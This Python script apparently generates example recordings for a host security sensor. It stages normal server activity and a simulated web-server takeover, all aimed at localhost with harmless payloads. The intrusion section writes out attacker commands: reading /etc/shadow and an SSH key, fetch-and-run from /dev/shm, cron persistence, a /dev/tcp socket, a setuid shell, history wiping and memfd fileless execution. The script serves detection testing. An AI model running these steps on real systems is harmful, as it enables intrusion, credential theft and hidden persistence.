"""Makes the example recordings: a real run of the sensor over an everyday minute and an intrusion.

Not a test of the matrix. ``python -m tests.vm --kernel 6.12 --test record`` prints where the
recording went; docs/examples and tests/recordings hold it.
"""

from __future__ import annotations

import base64
import http.server
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import zstandard

OUT = Path("/tmp/recording.jsonl")


def sh(command: str, shell: str = "/bin/sh") -> None:
    """Run a line of shell; what it prints is of no interest."""
    subprocess.run([shell, "-c", command], cwd="/root", stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                   stdin=subprocess.DEVNULL, check=False, timeout=60)


def everyday() -> None:
    """What a server does when nothing is wrong."""
    sh("ls -l /etc; id; df; uptime; date")
    sh("mkdir -p /srv/app && echo v1 > /srv/app/version && mv /srv/app/version /srv/app/release && rm /srv/app/release")
    sh("tar cf /tmp/etc.tar /etc/apt && gzip -f /tmp/etc.tar && rm /tmp/etc.tar.gz")
    sh("python3 -c 'import json; print(json.dumps({}))'")
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()):
        server.accept()[0].close()
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03www\x07example\x03org\x00\x00\x01\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.sendto(query, ("127.0.0.1", 53))


def intrusion() -> None:
    """A web server is taken over: secrets are read, a tool is fetched and run, ways back are left."""
    nginx = Path("/usr/sbin/nginx")
    shutil.copy("/bin/bash", nginx)
    sh("sh -c 'id; uname -a; cat /etc/passwd; cat /etc/shadow'", str(nginx))
    Path("/srv/www").mkdir(exist_ok=True)
    shutil.copy("/bin/true", "/srv/www/tool")
    handler = type("Quiet", (http.server.SimpleHTTPRequestHandler,), {
        "log_message": lambda *_: None,
        "__init__": lambda self, *a: http.server.SimpleHTTPRequestHandler.__init__(self, *a, directory="/srv/www")})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 8000), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        fetch = ("import urllib.request as u; open(\"/dev/shm/.x\", \"wb\")"
                 ".write(u.urlopen(\"http://127.0.0.1:8000/tool\").read())")
        sh(f"python3 -c '{fetch}'; chmod 755 /dev/shm/.x; /dev/shm/.x; rm /dev/shm/.x", str(nginx))
        server.shutdown()
    sh("mkdir -p /root/.ssh; echo secret > /root/.ssh/id_ed25519")
    sh("cat /root/.ssh/id_ed25519; echo '* * * * * root /tmp/.u' > /etc/cron.d/update", str(nginx))
    sh("ln -s /etc/shadow /tmp/.s; cat /tmp/.s; rm /tmp/.s", str(nginx))
    sh("bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444'", str(nginx))
    sh("cp /bin/bash /tmp/.sh; chmod 4755 /tmp/.sh; rm -f /root/.bash_history /tmp/.sh", str(nginx))
    memory = ("import os; f = os.memfd_create(\"kworker\"); os.write(f, open(\"/bin/true\", \"rb\").read());"
              " os.execve(f\"/proc/self/fd/{f}\", [\"kworker\"], {})")
    sh(f"python3 -c '{memory}'")
    for leftover in (nginx, Path("/etc/cron.d/update")):
        leftover.unlink(missing_ok=True)


def main() -> int:
    recorder = subprocess.Popen(["sensor", "record", str(OUT)], cwd="/", stderr=subprocess.PIPE, text=True)
    end = time.monotonic() + 200
    while not OUT.exists() or '"start"' not in OUT.read_text():
        if recorder.poll() is not None or time.monotonic() > end:
            print("the sensor did not start:", recorder.communicate()[1])
            return 1
        time.sleep(0.2)
    everyday()
    intrusion()
    everyday()
    time.sleep(1)
    recorder.send_signal(signal.SIGTERM)
    print(recorder.communicate(timeout=60)[1])
    data = OUT.read_bytes()
    packed = base64.b64encode(zstandard.ZstdCompressor(level=19).compress(data)).decode()
    Path(os.environ["VM_DATA"]).write_text(json.dumps({"lines": data.count(b"\n"), "recording": packed}))
    return recorder.returncode


if __name__ == "__main__":
    sys.exit(main())
